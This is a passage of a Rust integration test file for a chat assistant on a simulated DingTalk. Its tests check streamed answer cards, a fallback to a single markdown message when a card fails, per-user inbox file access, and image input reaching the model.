    assert_eq!((card.space_type.as_str(), card.space_id.as_str()), ("IM_GROUP", "cid-team"));
    assert_eq!(card.template_id, "tpl-ai.schema");
    assert_eq!(card.states[0].flow_status, "1", "created in the thinking state");
    assert!(card.states.iter().any(|s| s.content.contains("🔧 `files_read`")), "tool step shown: {:?}", card.states);
    let growing: Vec<&str> = card
        .states
        .iter()
        .map(|s| s.content.as_str())
        .filter(|c| !c.is_empty() && answer.starts_with(*c) && *c != answer)
        .collect();
    assert!(growing.len() >= 3, "the answer grows in the card: {:?}", card.states);
    // Finalised once, with the answer; only the status badge changes after that.
    let finals: Vec<_> = card.states.iter().skip_while(|s| !s.finalized).collect();
    assert!(!finals.is_empty() && finals.iter().all(|s| s.finalized && s.content == answer), "{:?}", card.states);
    assert_eq!(card.last().map(|l| l.content.as_str()), Some(answer));
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert!(replies_to(&rig.sim, &id).is_empty(), "no second answer as a message");
    assert!(rig.sim.replies().is_empty(), "{:?}", rig.sim.replies());

    // 1:1 cards go to the person; commands stay plain messages.
    rig.llm.push(Scripted::Text("Hello Li Lei.".into()));
    rig.sim.inject(Inject::text("hi").from("lilei"));
    let one = rig
        .sim
        .wait_until(Duration::from_secs(10), |s| {
            s.cards().len() == 2 && s.cards()[1].last().is_some_and(|l| l.finalized)
        })
        .await;
    assert!(one, "{:?}", rig.sim.cards());
    assert_eq!(rig.sim.cards()[1].space_type, "IM_ROBOT");
    assert_eq!(rig.sim.cards()[1].space_id, "lilei");
    assert_eq!(rig.ask(Inject::text("/ping").from("lilei")).await, "pong");
    assert_eq!(rig.sim.cards().len(), 2);
    rig.assert_nothing_leaked();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_failing_card_falls_back_to_one_markdown_message() {
    use zhuli_sim::dingtalk::cards::CardFault;
    let rig = rig_with("card-fallback", "", CARD).await;

    rig.sim.set_card_fault(CardFault::Create);
    rig.llm.push(Scripted::Text("Answer without a card.".into()));
    assert_eq!(rig.ask(Inject::text("q1").from("lilei")).await, "Answer without a card.");
    assert!(rig.sim.cards().is_empty());

    // The card is created but cannot be finalised: the answer still arrives, once.
    rig.sim.set_card_fault(CardFault::None);
    rig.llm.set_chunk_delay(Duration::from_millis(5));
    rig.llm.push(Scripted::Text("Answer after a broken card.".into()));
    let id = rig.sim.inject(Inject::text("q2").from("lilei"));
    assert!(rig.sim.wait_until(Duration::from_secs(5), |s| !s.cards().is_empty()).await);
    rig.sim.set_card_fault(CardFault::Stream);
    assert!(
        rig.sim.wait_until(Duration::from_secs(15), |s| !replies_to(s, &id).is_empty()).await,
        "{}",
        rig.agent.log()
    );
    tokio::time::sleep(Duration::from_millis(300)).await;
    let replies = replies_to(&rig.sim, &id);
    assert_eq!(replies.len(), 1);
    assert_eq!(replies[0].text, "Answer after a broken card.");
    assert!(rig.sim.cards()[0].states.iter().all(|s| !s.finalized));
    rig.assert_nothing_leaked();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pictures_and_files_reach_the_model() {
    let rig = rig("turn-media", "vision = true").await;

    // A file: kept in the sender's own inbox, readable by the files tools, by them only.
    rig.llm.push(calls(&[("files_read", json!({"path": "inbox/00000000.txt"}))]));
    rig.llm.push(Scripted::Text("It says: meeting at 3pm.".into()));
    let file = Inject { media: b"meeting at 3pm".to_vec(), ..Inject::of("file", "notes.txt").from("lilei") };
    assert_eq!(rig.ask(file).await, "It says: meeting at 3pm.");
    let first = rig.llm.requests()[0].body["messages"].as_array().and_then(|m| m.last().cloned()).unwrap_or_default();
    let told = first["content"].as_str().unwrap_or_default();
    assert!(told.contains("“notes.txt”") && told.contains("`inbox/00000000.txt`"), "{told}");
    assert_eq!(rig.tool_results(1), vec!["meeting at 3pm".to_owned()]);

    rig.llm.push(calls(&[("files_read", json!({"path": "inbox/00000000.txt"}))]));
    rig.llm.push(Scripted::Text("I cannot see it.".into()));
    rig.ask(Inject::text("what did lilei send?").from("wang")).await;
    let r = rig.tool_results(3);
    assert!(r[0].starts_with("refused:") && r[0].contains("inbox is empty"), "{r:?}");

    // A picture goes to a model with image input as an image part.
    let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR-sim".to_vec();
    rig.llm.push(Scripted::Text("A tiny picture.".into()));
    let picture = Inject { media: png.clone(), ..Inject::of("picture", "").from("lilei") };
    assert_eq!(rig.ask(picture).await, "A tiny picture.");
    let last = rig.llm.requests()[4].body["messages"].as_array().and_then(|m| m.last().cloned()).unwrap_or_default();
    let parts = last["content"].as_array().cloned().unwrap_or_default();
    assert_eq!(parts.len(), 2, "{last}");
    assert_eq!(parts[0]["type"], "text");
    let url = parts[1]["image_url"]["url"].as_str().unwrap_or_default();
    assert!(url.starts_with("data:image/png;base64,iVBORw0KGgo"), "{url}");
    rig.assert_nothing_leaked();
}
